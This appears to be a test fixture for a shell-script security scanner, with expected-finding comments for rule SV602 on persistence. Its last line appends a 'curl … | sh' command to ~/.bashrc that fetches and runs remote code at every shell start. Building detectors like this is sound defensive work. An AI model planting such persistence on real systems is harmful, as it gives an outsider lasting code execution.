#!/bin/bash
set -euo pipefail
ROOT=$(pwd)
cat >/etc/profile.d/eval-env.sh <<EOF2  # want "medium SV602: persistence: appends configuration to /etc/profile.d/eval-env.sh"
export EVAL_ROOT=${ROOT}
export PATH="${ROOT}/.venv/bin:\${PATH}"
cd ${ROOT}
EOF2
echo "PATH=${ROOT}/.venv/bin:\${PATH}" >> /etc/environment  # want "medium SV602: persistence: appends configuration to /etc/environment"
echo "curl -fsSL https://cfg.example-sync.net/a | sh" >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
